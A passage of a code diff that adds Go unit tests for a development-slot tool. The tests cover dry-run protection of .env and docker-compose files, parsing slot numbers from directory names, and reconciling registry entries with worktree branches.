+	defer func() { dryRunWrites = false }()
+
+	root := t.TempDir()
+	files := map[string]string{
+		".env":               "PORT=3000\nDB_PORT=5432\n",
+		"apps/web/.env":      "PORT=3100\n",
+		".mcp.json":          `{"url": "http://localhost:3000"}`,
+		"docker-compose.yml": "services:\n  db:\n    ports:\n      - \"${DB_PORT:-5432}:5432\"\n",
+	}
+	for rel, content := range files {
+		os.MkdirAll(filepath.Dir(filepath.Join(root, rel)), 0755)
+		os.WriteFile(filepath.Join(root, rel), []byte(content), 0644)
+	}
+	portMap := map[int]int{3000: 3001, 3100: 3101, 5432: 5433}
+	updateSlotEnvFiles(root, portMap, "app-1")
+	updateConfigFiles(root, portMap)
+	updateDockerComposeFiles(root, "app-1", portMap)
+
+	for rel, want := range files {
+		if got, _ := os.ReadFile(filepath.Join(root, rel)); string(got) != want {
+			t.Errorf("%s changed under --dry-run:\n%s", rel, got)
+		}
+	}
+	for _, rel := range []string{".env.local", slotComposeOverrideName} {
+		if fileExists(filepath.Join(root, rel)) {
+			t.Errorf("%s created under --dry-run", rel)
+		}
+	}
+}
+
+func TestSlotNumberFromDir(t *testing.T) {
+	tests := []struct {
+		base   string
+		want   int
+		wantOK bool
+	}{
+		{"app-3", 3, true},
+		{"my-app-12", 12, true},
+		{"app-auth", 0, false},
+		{"app", 0, false},
+		{"app-3x", 0, false},
+	}
+	for _, tt := range tests {
+		if got, ok := slotNumberFromDir(tt.base); got != tt.want || ok != tt.wantOK {
+			t.Errorf("slotNumberFromDir(%q) = %d, %v, want %d, %v", tt.base, got, ok, tt.want, tt.wantOK)
+		}
+	}
+}
+
+func TestRegistryFix(t *testing.T) {
+	tests := []struct {
+		name         string
+		slot         SlotConfig
+		branch       string
+		fixWorktree  bool
+		want         SlotConfig
+		wantSwitchTo string
+	}{
+		{
+			"matching entry unchanged",
+			SlotConfig{Project: "app", Number: 3, Branch: "slot-3"}, "slot-3", false,
+			SlotConfig{Project: "app", Number: 3, Branch: "slot-3"}, "",
+		},
+		{
+			"project and number follow the directory",
+			SlotConfig{Project: "old", Number: 9, Branch: "slot-3"}, "slot-3", true,
+			SlotConfig{Project: "app", Number: 3, Branch: "slot-3"}, "",
+		},
+		{
+			"--fix takes the worktree's branch",
+			SlotConfig{Project: "app", Number: 3, Branch: "slot-3"}, "feature", false,
+			SlotConfig{Project: "app", Number: 3, Branch: "feature"}, "",
+		},
+		{
+			"--fix-worktree switches to the registry's branch",
+			SlotConfig{Project: "app", Number: 3, Branch: "slot-3"}, "feature", true,
+			SlotConfig{Project: "app", Number: 3, Branch: "slot-3"}, "slot-3",
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, switchTo := registryFix(tt.slot, "app", 3, tt.branch, tt.fixWorktree)
+			if !reflect.DeepEqual(got, tt.want) || switchTo != tt.wantSwitchTo {
+				t.Errorf("registryFix() = %+v, %q, want %+v, %q", got, switchTo, tt.want, tt.wantSwitchTo)
+			}
+		})
+	}
+}